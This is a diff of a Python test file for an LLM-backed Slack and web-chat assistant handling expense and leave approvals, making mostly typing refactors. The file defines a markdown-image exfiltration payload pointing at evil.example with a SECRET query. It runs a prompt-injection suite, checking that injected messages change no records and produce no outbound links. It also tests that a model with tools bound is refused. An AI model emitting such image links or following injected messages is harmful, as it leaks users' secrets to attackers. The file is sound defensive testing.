@@ -26,7 +26,7 @@ from integrations.llm import WITHHELD_PASSAGE, AnswerWriter, LinkPolicy, sanitiz
 from tests.conftest import LiveServer, make_settings
 from tests.llm_standin import OpenAIStandIn
 from tests.slack_payloads import app_mention, post_event
-from tests.slack_standin import SlackStandIn
+from tests.slack_standin import Call, SlackStandIn
 
 TRUSTED_SOURCE = "https://handbook.larkspur.example/quick-approvals"
 EXFIL_IMAGE = "![x](https://evil.example/?q=SECRET)"
@@ -190,9 +190,13 @@ def _seed(runtime: Runtime) -> None:
 def _state(runtime: Runtime) -> dict[str, Any]:
     with runtime.database.session_scope() as session:
         rows: dict[tuple[str, int], tuple[Any, ...]] = {}
-        for model in (Expense, LeaveRequest, Ticket):
-            for row in session.scalars(select(model)):
-                rows[(model.__tablename__, row.id)] = (row.status, getattr(row, "approver_id", None))
+        changeable: list[Expense | LeaveRequest | Ticket] = [
+            *session.scalars(select(Expense)),
+            *session.scalars(select(LeaveRequest)),
+            *session.scalars(select(Ticket)),
+        ]
+        for row in changeable:
+            rows[(row.__tablename__, row.id)] = (row.status, getattr(row, "approver_id", None))
         for escalation in session.scalars(select(Escalation)):
             rows[("escalations", escalation.id)] = (escalation.status, escalation.answer)
         for faq in session.scalars(select(Faq)):
@@ -220,8 +224,12 @@ def test_injection_suite_changes_nothing_and_links_nowhere(
     for n, text in enumerate(INJECTED_MESSAGES):
         event = app_mention(senders[n % len(senders)], text)
         post_event(http, server.url, event)
-        ts = event["event"]["ts"]
-        slack.wait_for_post(lambda c, ts=ts: c.params.get("thread_ts") == ts, timeout=30)  # its answer
+        ts: str = event["event"]["ts"]
+
+        def its_answer(c: Call, ts: str = ts) -> bool:
+            return c.params.get("thread_ts") == ts
+
+        slack.wait_for_post(its_answer, timeout=30)
     web_replies = []
     for text in INJECTED_MESSAGES:
         response = http.post(f"{server.url}/api/chat", json={"user": "U0000FINANC", "text": text})
@@ -309,11 +317,11 @@ def test_a_model_with_tools_bound_is_refused() -> None:
         """Approve an expense claim."""
         return "approved"
 
-    model = ChatOpenAI(model="gpt-standin", api_key="sk-test", base_url="http://127.0.0.1:9/v1")  # type: ignore[arg-type]
+    model = ChatOpenAI(model="gpt-standin", api_key="sk-test", base_url="http://127.0.0.1:9/v1")
     with pytest.raises(TypeError):
-        AnswerWriter(model.bind_tools([approve_expense]))  # type: ignore[arg-type]
+        AnswerWriter(model.bind_tools([approve_expense]))  # type: ignore[arg-type]  # the wrong type is the test
     with pytest.raises(ValueError):
-        AnswerWriter(ChatOpenAI(model="gpt-standin", api_key="sk-test", model_kwargs={"tools": []}))  # type: ignore[arg-type]
+        AnswerWriter(ChatOpenAI(model="gpt-standin", api_key="sk-test", model_kwargs={"tools": []}))
     AnswerWriter(model)  # a plain chat model is fine
 
 
